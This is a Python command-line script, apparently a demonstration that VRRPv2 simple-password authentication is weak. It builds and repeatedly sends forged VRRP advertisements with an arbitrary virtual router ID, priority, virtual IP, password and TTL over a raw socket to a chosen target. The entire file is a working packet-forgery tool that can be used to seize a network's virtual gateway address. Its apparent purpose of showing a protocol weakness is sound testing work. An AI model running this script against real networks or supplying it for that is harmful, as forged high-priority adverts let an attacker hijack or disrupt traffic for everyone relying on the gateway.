"""VRRPv2 adverts with simple password authentication, as anything that can send raw IP could
forge them: `python vrrp_advert.py VRID PRIORITY VIP PASSWORD TTL TARGET COUNT`, one every 0.5 s."""

from __future__ import annotations

import socket
import struct
import sys
import time

VRRP = 112


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def advert(vrid: int, priority: int, vip: str, password: str) -> bytes:
    # version 2, type 1 (advertisement); one address; auth type 1 (simple); advert interval 1 s.
    body = struct.pack("!BBBBBBH", 0x21, vrid, priority, 1, 1, 1, 0) + socket.inet_aton(vip) + password.encode()[:8].ljust(8, b"\0")
    return body[:6] + struct.pack("!H", checksum(body)) + body[8:]


def main(argv: list[str]) -> None:
    vrid, priority, vip, password, ttl, target, count = argv
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, int(ttl))
    packet = advert(int(vrid), int(priority), vip, password)
    for _ in range(int(count)):
        sock.sendto(packet, (target, 0))
        time.sleep(0.5)


if __name__ == "__main__":
    main(sys.argv[1:])
